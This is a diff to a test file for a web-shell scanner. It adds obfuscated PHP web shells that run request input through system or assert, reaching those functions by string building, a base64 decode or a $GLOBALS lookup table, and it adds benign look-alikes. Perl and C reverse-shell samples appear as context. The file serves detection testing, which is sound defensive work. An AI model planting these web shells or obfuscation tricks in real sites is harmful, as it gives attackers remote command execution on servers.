@@ -40,6 +40,11 @@ const MALICIOUS: [string, string, string][] = [
   ['a Perl connect-back through IO::Socket::INET and a three-argument open (S35A-18)', '/var/www/cgi-bin/x.pl', `#!/usr/bin/perl\nuse IO::Socket::INET;\n$s = IO::Socket::INET->new(PeerAddr => $ARGV[0], PeerPort => $ARGV[1], Proto => 'tcp');\nopen(STDIN, '<&', $s); open(STDOUT, '>&', $s); open(STDERR, '>&', $s);\nexec('/bin/sh -i');\n`],
   ['a C connect-back with a dup2 loop and execlp of sh (S35A-19)', '/var/www/html/y.c', `#include <sys/socket.h>\nint main() { int s = socket(2, 1, 0); struct sockaddr_in a; connect(s, (void *)&a, sizeof a); for (int i = 0; i < 3; i++) dup2(s, i); execlp("sh", "sh", NULL); }\n`],
   ['the whole $_SERVER read value by value into a command (S35A)', '/var/www/html/w.php', `<?php\nforeach ($_SERVER as $k => $v) if ($k === 'HTTP_X_RUN') system($v);\n`],
+  ['a tiny file adding a letter to a name through a reference, then calling it with request input', '/var/www/html/z1.php', `<?php\nfunction add(&$v) { $v = $v . 'm'; }\n$f = 'syste';\nadd($f);\n$f($_GET['c']);\n`],
+  ['a tiny file joining a name\'s letters in a loop inside a function given request input', '/var/www/html/z2.php', `<?php\nfunction go($a) {\n  $l = array('s', 'y', 's', 't', 'e', 'm');\n  $f = '';\n  foreach ($l as $c) { $f .= $c; }\n  $f($a);\n}\ngo($_REQUEST['x']);\n`],
+  ['create_function whose code asserts its argument, handed to an iterator with request input', '/var/www/html/z3.php', `<?php\n$it = new CallbackFilterIterator(new ArrayIterator(array($_POST['p'])), create_function('$a', 'assert($a);'));\nforeach ($it as $x) echo $x;\n`],
+  ['functions named by characters picked from a table in $GLOBALS, read through a name given the whole of $GLOBALS', '/var/www/html/z4.php', `<?php\n$g = $GLOBALS;\n\${"\\x47\\x4c\\x4fB\\x41\\x4c\\x53"}['t'] = "xsyetmavlpo_ECIKU";\n$g[$g['t'][1] . $g['t'][2] . $g['t'][1]] = 1;\n$c = $g[$g['t'][11] . $g['t'][13] . $g['t'][10] . $g['t'][10] . $g['t'][15] . $g['t'][16] . $g['t'][14] . $g['t'][12]];\n$g['t'][3] . $g['t'][6] . $g['t'][7];\n@$g[$g['t'][1] . $g['t'][2] . $g['t'][1] . $g['t'][4] . $g['t'][3] . $g['t'][5]]($c['c']);\n@$g[$g['t'][3] . $g['t'][7] . $g['t'][6] . $g['t'][8]]($c['e']);\n@$g[$g['t'][9] . $g['t'][2] . $g['t'][1] . $g['t'][4]]($c['p']);\n`],
+  ['a decoder\'s name joined with a number worked out, (128/2), then called on request input', '/var/www/html/z5.php', `<?php\n$d = 'base' . (128/2) . '_de' . 'code';\n$f = $d('c3lzdGVt');\n$f($_POST['c']);\n`],
   ['a directory browser finding drives by letter and listing the folder the request names', '/var/www/html/r.php', `<?php\nfunction drives() { foreach (range('c', 'z') as $l) if (is_dir($l . ':')) echo "<a href='?d=$l:'>$l:</a> "; }\ndrives();\n$d = isset($_GET['d']) ? $_GET['d'] : getcwd();\n$h = opendir($d);\nwhile (($f = readdir($h)) !== false) echo htmlspecialchars($f), '<br>';\n`],
 ];
 
@@ -67,6 +72,10 @@ const LOOKALIKES: [string, string, string][] = [
   ['a small server running a handler through sh -c for each connection (S35A-8)', '/var/www/html/srv.c', `#include <sys/socket.h>\nint main() { int l = socket(AF_INET, SOCK_STREAM, 0); for (;;) { int c = accept(l, 0, 0); if (!fork()) { dup2(c, 0); dup2(c, 1); execl("/bin/sh", "sh", "-c", "./handler", (char *)0); } } }\n`],
   ['a cron script running a command from $_SERVER\'s DOCUMENT_ROOT through an alias (S35A-10)', '/var/www/html/cron.php', `<?php\n$server = $_SERVER;\nexec('php ' . $server['DOCUMENT_ROOT'] . '/cron/run.php &');\n`],
   ['a backup plugin\'s destination picker listing drives for an administrator (S35A-6)', '/var/www/html/pick.php', `<?php\nif (!current_user_can('manage_options')) wp_die();\nforeach (range('c', 'z') as $l) if (is_dir($l . ':')) echo $l;\n$base = isset($_GET['browse']) ? realpath($_GET['browse']) : 'C:';\nforeach (glob($base . '/*', GLOB_ONLYDIR) as $d) echo esc_html($d);\n`],
+  ['a tiny file calling a formatter named by a literal with request input', '/var/www/html/fmt.php', `<?php\n$f = 'htmlspecialchars';\necho $f($_GET['q']);\n`],
+  ['a tiny file calling a formatter joined from literals with request input', '/var/www/html/fmt2.php', `<?php\n$f = 'str' . 'toupper';\necho htmlspecialchars($f($_GET['q']));\n`],
+  ['a page reading a setting through a name given the whole of $GLOBALS', '/var/www/html/glob.php', `<?php\n$g = $GLOBALS;\n$GLOBALS['site'] = 'Example';\necho htmlspecialchars($g['site'] . ': ' . ($_GET['p'] ?? ''));\n`],
+  ['create_function returning its argument trimmed, over request input', '/var/www/html/trim.php', `<?php\n$t = create_function('$a', 'return trim($a);');\necho htmlspecialchars($t($_GET['q']));\n`],
   ['a string with an escaped dollar sign and a str_replace, printed', '/var/www/html/price.php', `<?php\n$t = "Price: \\$AMOUNT";\n$t = str_replace('AMOUNT', number_format((float) $_GET['p'], 2), $t);\necho htmlspecialchars($t);\n`],
 ];
 
@@ -77,7 +86,7 @@ describe('scan: the techniques of held-out sets H8 to H11 (session 35)', () => {
       assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 24));
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 29));
 
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
@@ -85,5 +94,5 @@ describe('scan: the techniques of held-out sets H8 to H11 (session 35)', () => {
       assert.notEqual(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 24));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 28));
 });
